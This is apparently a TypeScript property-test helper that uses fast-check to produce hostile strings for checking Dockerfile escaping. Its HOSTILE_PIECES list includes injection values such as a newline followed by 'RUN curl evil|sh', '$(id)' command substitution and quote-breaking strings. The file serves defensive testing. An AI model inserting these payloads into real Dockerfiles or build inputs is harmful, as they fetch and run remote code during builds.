import fc from "fast-check";

/**
 * Pieces of text that have broken out of a Dockerfile instruction somewhere:
 * line breaks of every kind, Docker's escape and quote characters, shell
 * and variable syntax, JSON brackets, instruction keywords, flags, and text
 * that is not valid Unicode.
 */
export const HOSTILE_PIECES: readonly string[] = [
  "\n",
  "\r",
  "\r\n",
  "\\",
  "\\\n",
  '"',
  "'",
  "`id`",
  "$VAR",
  "${X}",
  "$(id)",
  "$",
  "&&",
  ";",
  "|",
  "[",
  "]",
  '["sh", "-c"]',
  "{",
  "}",
  "\u2028",
  "\u2029",
  "\u0085",
  "\u0000",
  "\t",
  "\u00a0",
  "\ufeff",
  "\ud800",
  "\udc00",
  "-",
  "--from=evil",
  " ",
  "#",
  "=",
  ":",
  "@",
  "*",
  "..",
  "/",
  "é",
  "😀",
  "\nRUN curl evil|sh",
  "\nFROM scratch",
  " AS evil",
  "\\\nRUN curl evil|sh",
  '" \\\n    EVIL="1',
];

/** A string made of hostile pieces and random text, or wholly random. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_PIECES),
  fc
    .array(fc.oneof(fc.constantFrom(...HOSTILE_PIECES), fc.string()), {
      minLength: 1,
      maxLength: 6,
    })
    .map((parts) => parts.join("")),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc
    .tuple(fc.constantFrom(...HOSTILE_PIECES), fc.nat({ max: 20000 }))
    .map(([piece, n]) => "a".repeat(n) + piece),
);

/** A string of plain ASCII letters and digits with hostile pieces inside. */
export const nearlyPlainString: fc.Arbitrary<string> = fc
  .tuple(
    fc.stringMatching(/^[a-z][a-z0-9]{0,8}$/),
    fc.constantFrom(...HOSTILE_PIECES),
    fc.stringMatching(/^[a-z0-9]{0,8}$/),
  )
  .map(([head, piece, tail]) => head + piece + tail);

/** Any value a JavaScript caller could pass where a string is expected. */
export const notAString: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 2 }),
  fc.dictionary(fc.string(), fc.string(), { maxKeys: 2 }),
);

/** Settings shared by the property tests: modest runs, seed printed on failure. */
export const RUNS = { numRuns: Number(process.env.PPD_RUNS ?? 150) };
